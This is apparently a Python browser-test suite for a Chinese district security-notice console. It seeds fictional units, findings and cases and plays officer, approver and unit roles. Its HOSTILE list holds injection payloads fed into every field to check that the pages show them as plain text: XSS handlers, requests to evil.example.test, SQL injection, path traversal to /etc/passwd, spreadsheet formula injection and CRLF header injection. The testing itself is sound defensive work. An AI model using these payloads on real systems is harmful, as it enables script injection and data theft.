"""The console in a real browser: web/tests/console.mjs plays officer, approver, unit and administrator on a made-up district."""
import json
import os
import pathlib
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent))
from support.client import serving  # noqa: E402
from support.desk import LAW, SIGNER, desk  # noqa: E402
from support.harness import ROOT, case, check_equal, check_true, main  # noqa: E402

PASSWORD = "practice-password-1"
PEOPLE = ("officer", "approver", "officer2", "unitA", "unitB", "admin1", "auditor", "leader")
NAMES = {"d1": "青山区网信办", "uA": "第一中学", "uB": "区人民医院", "uC": "自来水公司", "uD": "文化馆"}
EVIDENCE = {"url": "https://ua.example.test/.git/HEAD", "status": 200, "headers": [{"name": "Content-Type", "value": "text/plain"}],
            "pattern": "ref: refs/heads", "excerpt": "ref: refs/heads/main\n"}
CHAIN = {"certificates": [{"position": 0, "role": "leaf", "subject": "CN=ua.example.test", "sha256": "ab" * 32, "fault": "expired 12 days ago"},
                          {"position": 1, "role": "intermediate", "subject": "CN=Practice CA", "issuer": "CN=Practice Root", "sha256": "cd" * 32}]}
DNS = {"name": "old.ua.example.test", "cname_chain": ["old.cdn.example.test", "gone.cloud.example.test"], "dns": "NXDOMAIN"}
CHECKS = (("exposure.git_repository", "high", EVIDENCE), ("tls.certificate_expired", "critical", CHAIN), ("dns.dangling_cname", "medium", DNS),
          ("header.hsts_missing", "low", {"header": "Strict-Transport-Security"}), ("http.version_disclosed", "info", {"header": "Server", "value": "nginx/1.18"}))

# What hostile sites, files and people put into fields: markup, handlers, templates, addresses, marks that turn text around.
HOSTILE = [
    "<script>window.__hit=1</script>", "<img src=x onerror=window.__hit=2>", "<svg onload=window.__hit=3>", "\"><script>window.__hit=4</script>",
    "'><img src=x onerror=window.__hit=5>", "javascript:window.__hit=6", "<a href=javascript:window.__hit=7>x</a>", "{{constructor.constructor('window.__hit=8')()}}",
    "${window.__hit=9}", "<iframe srcdoc='<script>parent.__hit=10</script>'>", "<body onload=window.__hit=11>", "<details open ontoggle=window.__hit=12>",
    "<input autofocus onfocus=window.__hit=13>", "<video><source onerror=window.__hit=14>", "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit=15>",
    "<style>@import 'http://evil.example.test/x.css'</style>", "<link rel=stylesheet href=//evil.example.test/x.css>", "<base href=//evil.example.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.example.test'>", "<object data=//evil.example.test>", "<embed src=//evil.example.test>",
    "<form action=//evil.example.test><button>x", "<img src=//evil.example.test/pixel>", "\u202egnp.exe", "\u2066\u2067x\u2069", "a\u0000b".replace("\u0000", ""), "x" * 2000,
    "</textarea><script>window.__hit=16</script>", "</title><script>window.__hit=17</script>", "<!--<script>window.__hit=18</script>-->", "]]><script>window.__hit=19</script>",
    "<scr<script>ipt>window.__hit=20</scr</script>ipt>", "%3Cscript%3Ewindow.__hit=21%3C/script%3E", "&lt;script&gt;window.__hit=22&lt;/script&gt;",
    "&#60;script&#62;window.__hit=23&#60;/script&#62;", "\\u003cscript\\u003ewindow.__hit=24", "<svg><animate onbegin=window.__hit=25 attributeName=x dur=1s>",
    "<marquee onstart=window.__hit=26>", "<select autofocus onfocus=window.__hit=27>", "<div style=background:url(javascript:window.__hit=28)>",
    "<x contenteditable onblur=window.__hit=29>", "<img src='x' onerror='fetch(\"//evil.example.test\")'>", "data:text/html,<script>window.__hit=30</script>",
    "vbscript:window.__hit=31", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "@:common.save", "{name}", "%s%n%x", "' OR 1=1 --", "../../../etc/passwd", "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example.test\")", "\r\nSet-Cookie: x=1", "<template v-html=x>", "v-on:click=window.__hit=32", "__proto__", "constructor", "null", "undefined", "NaN", "",
]


def with_passwords(d):
    for name in PEOPLE:
        d.admin.change(f"/users/{d.tokens[name][0]}", {"password": PASSWORD})


def registry(d):
    for unit, name in NAMES.items():
        d.admin.change(f"/units/{unit}", {"name": name})
    assets = {}
    for unit in ("uA", "uB", "uC"):
        system, own = d.system(unit, assets=[f"https://{unit.lower()}.example.test", f"https://oa.{unit.lower()}.example.test"])
        assets[unit] = own
        d.officer.change(f"/systems/{system}", {"name": f"{NAMES[unit]}门户网站"})
    return assets


def found(d, assets):
    """Findings of every sort on every unit; new ones."""
    ids = {}
    titles = {check["id"]: check["title"] for check in d.officer.read("/checks")["items"]}
    for unit, own in assets.items():
        results = [{**d.result(own[0], check=check, severity=severity, locator=f"/{check}"), "title": titles[check], "evidence": evidence} for check, severity, evidence in CHECKS]
        ids[unit] = d.run(own, results)["findings"]
    return ids


def district(d):
    """People, units, findings, one case in each stage that needs no waiting."""
    with_passwords(d)
    assets = registry(d)
    ids = found(d, assets)
    for finding in ids["uB"][:3]:
        d.officer.act(f"/findings/{finding}", "confirm")
    issued = d.issued(d.case(ids["uB"][:2]), "uB", title="关于代码仓库泄露等问题的整改通知")
    for finding in ids["uC"][:4]:
        d.officer.act(f"/findings/{finding}", "confirm")
    done = d.received(d.case(ids["uC"][:1]), "uC", d.unitC)
    d.answer(done, d.unitC)
    d.draft(d.case(ids["uC"][1:2]), "uC")
    return {"assets": assets, "findings": ids, "issued": issued, "replied": done, "law": LAW, "signer": SIGNER}


def hostile_district(d):
    """The same with every text that the API takes made hostile."""
    with_passwords(d)
    assets = []
    for number, text in enumerate(HOSTILE):
        given = text or "empty"
        made = d.officer.call("POST", "/units", {"id": f"h{number}", "name": given, "kind": "unit", "parent": "d1",
                                                 "contacts": [{"role": "contact", "name": given, "phone": given[:40], "email": given[:80]}]}, (201, 400, 422))
        if made.status != 201:
            d.officer.make("/units", {"id": f"h{number}", "name": f"refused {number}", "kind": "unit", "parent": "d1"})
        system = d.officer.call("POST", "/systems", {"unit": f"h{number}", "name": given}, (201, 400, 422))
        system = system.json["id"] if system.status == 201 else d.officer.make("/systems", {"unit": f"h{number}", "name": "x"})["id"]
        asset = d.officer.make("/assets", {"system": system, "value": f"https://h{number}.example.test"})["id"]
        assets.append((number, asset, given))
    findings = []
    for number, asset, given in assets:
        evidence = {"url": f"https://h{number}.example.test/", "status": 200, "headers": [{"name": "Server", "value": given}], "excerpt": given, "title": given, "pattern": given[:100]}
        body = {"tool": "x", "targets": [d.target(asset)], "results": [{"asset": asset, "check": "exposure.git_repository", "locator": f"/{number}", "severity": "high",
                                                                       "title": given, "evidence": evidence}]}
        answer = d.officer.call("POST", "/runs", body, (201, 400, 422))
        if answer.status == 201:
            findings += answer.json["findings"]
    check_true(len(findings) >= 50, f"{len(findings)} hostile findings were taken")
    notices = []
    for finding in findings:
        record = d.officer.act(f"/findings/{finding}", "confirm")
        opened = d.officer.make("/cases", {"findings": [finding], "title": record["title"] if isinstance(record["title"], str) else record["title"].get("zh", "x")})["id"]
        d.officer.act(f"/cases/{opened}", "verify", {})
        notices.append(d.draft(opened, record["unit"], internal_notes=HOSTILE[len(notices) % len(HOSTILE)]))
    return {"findings": findings, "notices": notices, "units": [f"h{number}" for number, _, _ in assets], "hostile": HOSTILE}


def start(d, part, facts, **variables):
    env = dict(os.environ, FENGSUI_URL=f"http://127.0.0.1:{d.port}", FENGSUI_PASSWORD=PASSWORD, FENGSUI_FACTS=json.dumps(facts),
               FENGSUI_ADMIN_TOKEN=d.tokens["admin"][1], **variables)
    return subprocess.Popen(["node", "tests/console.mjs", part], cwd=ROOT / "web", env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT)


def read_until(player, word):
    """What the player prints up to that word; it fails when it ends before."""
    seen = ""
    for line in player.stdout:
        seen += line.decode(errors="replace")
        if word in seen:
            return seen
    player.wait(10)
    raise AssertionError(f"ended before {word}:\n{seen}")


def play(d, part, facts, seconds=540, **variables):
    player = start(d, part, facts, **variables)
    try:
        out, _ = player.communicate(timeout=seconds)
    finally:
        player.kill()
    print("\n".join("     " + line for line in out.decode(errors="replace").splitlines()), flush=True)
    check_equal(player.returncode, 0, f"console.mjs {part}")


def pages(tmp):
    root = pathlib.Path(os.environ.get("FENGSUI_WEB_ROOT", ROOT / "web/dist"))
    check_true((root / "index.html").exists(), "the pages are built (tools/build_web)")
    (tmp / "serve.toml").write_text(f'web_root = "{root}"\n')
    return ["--config", tmp / "serve.toml"]


def whole_loop(tmp, language):
    with desk(tmp, *pages(tmp)) as d:
        facts = district(d)
        play(d, "loop", facts, FENGSUI_LOOP_LANGUAGE=language)
        notices = [one for one in d.officer.items("/notices") if one["recipient"] == "uA"]
        check_equal([one["state"] for one in notices], ["replied"], "the notice that the pages made")
        check_equal(len(d.officer.items(f"/responses?notice={notices[0]['id']}")), 1, "one reply, though it was sent over an ended session")


@case
def the_loop_as_officer_approver_and_unit(tmp):
    whole_loop(tmp, "zh-CN")


@case
def the_loop_in_english(tmp):
    whole_loop(tmp, "en")


@case
def the_loop_by_keyboard_only(tmp):
    with desk(tmp, *pages(tmp)) as d:
        play(d, "keyboard", district(d))


@case
def a_restart_in_a_form_and_two_at_one_case(tmp):
    arguments = pages(tmp)
    with desk(tmp, *arguments) as d:
        facts, port, known = district(d), d.port, d
        player = start(d, "faults", facts)
        seen = read_until(player, "RESTART")
    seen += read_until(player, "COME BACK")  # only when the page has seen that nobody answers
    # Its page has been told nothing: the server has simply gone, and comes back at the same address.
    with serving(tmp / "d", "--test-clock", *arguments, log=tmp / "d2.log", port=port):
        try:
            out, _ = player.communicate(timeout=200)
        finally:
            player.kill()
    print("\n".join("     " + line for line in (seen + out.decode(errors="replace")).splitlines()), flush=True)
    check_equal(player.returncode, 0, f"console.mjs faults ({known.port})")


@case
def the_wall_stays_flat(tmp):
    with desk(tmp, *pages(tmp)) as d:
        play(d, "wall", district(d))


@case
def a_picture_of_every_page(tmp):
    """Taken in both languages; with FENGSUI_PICTURES=1 they are the ones of docs/pictures."""
    into = ROOT / "docs/pictures" if os.environ.get("FENGSUI_PICTURES") else tmp / "pictures"
    with desk(tmp, *pages(tmp)) as d:
        play(d, "pictures", district(d), FENGSUI_PICTURE_DIR=str(into))
    for language in ("zh-CN", "en"):
        check_true(len(list((into / language).glob("*.png"))) > 35, f"pictures in {language}")


@case
def registry_files_and_self_checks(tmp):
    with desk(tmp, *pages(tmp)) as d:
        play(d, "registry", district(d))
        check_equal(d.officer.read("/assets?unit=uC")["items"][-1]["state"] if d.officer.read("/assets?unit=uC")["items"] else "", "withdrawn", "the asset that the file does not list")


def many_units(d, count):
    """So many units, each with one confirmed finding."""
    with_passwords(d)
    findings = []
    for start in range(0, count, 100):
        assets = []
        for number in range(start, min(start + 100, count)):
            d.officer.make("/units", {"id": f"m{number}", "name": f"第{number}小学", "kind": "unit", "parent": "d1"})
            assets.append(d.system(f"m{number}")[1][0])
        findings += d.run(assets, [d.result(asset) for asset in assets])["findings"]
    for finding in findings:
        d.officer.act(f"/findings/{finding}", "confirm")
    return {"law": LAW, "count": count}


@case
def bulk_issue_to_five_hundred_units(tmp):
    with desk(tmp, *pages(tmp)) as d:
        play(d, "bulk", many_units(d, 500))
        notices = d.officer.items("/notices")
        check_equal({one["state"] for one in notices}, {"issued"}, "states")
        check_equal((len(notices), len({one["recipient"] for one in notices}), len({one["doc_no"] for one in notices})), (500, 500, 500), "one notice with a number for each unit")


@case
def the_client_is_made_from_what_the_server_offers(tmp):
    """Every operation that web/api/openapi.json names is offered, with the same parameters."""
    kept = json.loads((ROOT / "web/api/openapi.json").read_text(encoding="utf-8"))
    with desk(tmp) as d:
        offered = d.officer.read("/openapi.json")
    for path, methods in kept["paths"].items():
        for method, operation in methods.items():
            now = offered["paths"].get(path, {}).get(method)
            check_true(now is not None, f"{method} {path} is offered")
            check_equal(sorted(one["name"] for one in now["parameters"]), sorted(one["name"] for one in operation["parameters"]), f"parameters of {method} {path}")


@case
def every_page_is_accessible(tmp):
    with desk(tmp, *pages(tmp)) as d:
        play(d, "access", district(d))


@case
def hostile_text_is_text(tmp):
    with desk(tmp, *pages(tmp)) as d:
        play(d, "hostile", hostile_district(d))


main()
